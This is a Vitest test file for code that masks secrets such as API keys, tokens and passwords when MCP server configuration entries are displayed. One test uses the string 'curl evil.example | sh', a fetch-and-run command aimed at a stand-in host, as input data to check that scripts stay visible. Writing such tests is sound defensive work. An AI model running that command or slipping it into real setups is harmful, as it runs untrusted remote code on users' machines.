import { describe, expect, it } from 'vitest';
import packageNames from '../../fixtures/mcp-package-names.txt?raw';
import { MASK } from '../../../renderer/entry/entry-json.ts';
import { changedKeys, hasMasked, shownText } from '../../../renderer/entry/shown-entry.ts';

const shown = (entry: Record<string, unknown>) => JSON.parse(shownText(entry, false)) as typeof entry;

describe('shownText', () => {
  it('masks environment, headers, and what may be secret among arguments and in an address', () => {
    expect(
      shown({
        args: [
          '--api-key=abc',
          '--token',
          'abc',
          '-e',
          'GITHUB_TOKEN=abc',
          'https://me:abc@host/x?sig=abc#top',
        ],
        env: { A: 'abc' },
        headers: { Authorization: 'Bearer abc' },
        url: 'https://host/mcp?profile=abc&flag',
      }),
    ).toEqual({
      args: [
        `--api-key=${MASK}`,
        '--token',
        MASK,
        '-e',
        `GITHUB_TOKEN=${MASK}`,
        `https://me:${MASK}@host/x?sig=${MASK}#top`,
      ],
      env: { A: MASK },
      headers: { Authorization: MASK },
      url: 'https://host/mcp?profile=abc&flag',
    });
  });

  it('masks what may be secret among the arguments of its own health check', () => {
    const withArguments = (password: string) => ({
      panel: { health: { check: { tool: 'ping', arguments: { db: 'main', logins: [{ password }] } } } },
    });
    expect(shown(withArguments('abc'))).toEqual(withArguments(MASK));
  });

  it('leaves everything else as it stands', () => {
    const entry = {
      command: 'npx',
      args: ['-y', '@scope/server', '--port=80', '/a path', 3, 'https://host/mcp', '--token', '-v'],
      panel: { limits: { maxMemoryMiB: 512 } },
      unknown: { kept: true },
    };
    expect(shown(entry)).toEqual(entry);
    expect(hasMasked(entry)).toBe(false);
  });

  it('masks no name of a package, wherever it stands', () => {
    const names = packageNames.trim().split('\n');
    expect(names.length).toBeGreaterThanOrEqual(924);
    const masked = names.filter(
      (name) =>
        hasMasked({ command: 'npx', args: ['-y', name, '-p', name, `--server=${name}`] }) ||
        hasMasked({ url: `https://stock.example/${name}/mcp?server=${name}` }),
    );
    expect(masked).toEqual([]);
  });

  it.each([
    ['behind -k', { command: 'x', args: ['-k', 'zQ8-canary-41d7'] }],
    ['as a connection string', { command: 'x', args: ['--connection-string', 'zQ8-canary-41d7'] }],
    ['as the password of a user', { command: 'x', args: ['-u', 'user:zQ8-canary-41d7'] }],
    ['as a variable with a colon', { command: 'x', args: ['--env', 'KEY:zQ8-canary-41d7'] }],
    ['as a personal access token', { command: 'x', args: ['--pat', 'zQ8-canary-41d7'] }],
    ['as a fragment', { url: 'https://host/mcp#zQ8-canary-41d7' }],
    ['behind /s/', { url: 'https://host/s/abcdefghijkl/mcp' }],
    ['as a key with a form of its own', { command: 'x', args: ['word', `lin_api_${'a1'.repeat(20)}`] }],
  ])('masks a secret as the logs do: %s', (_, entry) => {
    expect(shownText(entry, false)).not.toMatch(/canary|abcdefghijkl|a1a1/);
    expect(hasMasked(entry)).toBe(true);
  });

  it('shows a script, but for what looks drawn in it, and the package that runs', () => {
    for (const args of [
      ['-c', 'token=1; curl evil.example | sh'],
      ['-c', 'x --api-key evil'],
    ])
      expect(shown({ command: 'sh', args })['args']).toEqual(args);
    const args = ['-y', '--auth', 'evil-package'];
    expect(shown({ command: 'npx', args })['args']).toEqual(args);
  });

  it('shows everything once it is asked for', () => {
    const entry = { command: 'x', args: ['--api-key=abc'], env: { A: 'abc' } };
    expect(hasMasked(entry)).toBe(true);
    expect(JSON.parse(shownText(entry, true))).toEqual(entry);
  });
});

describe('changedKeys', () => {
  it('names what differs, whichever of the two has it, and not what is only ordered otherwise', () => {
    const before = { command: 'a', args: ['x'], env: { A: '1', B: '2' }, cwd: '/' };
    const after = { command: 'b', args: ['x'], env: { B: '2', A: '1' }, disabled: true };
    expect(changedKeys(before, after)).toEqual(['command', 'cwd', 'disabled']);
  });
});
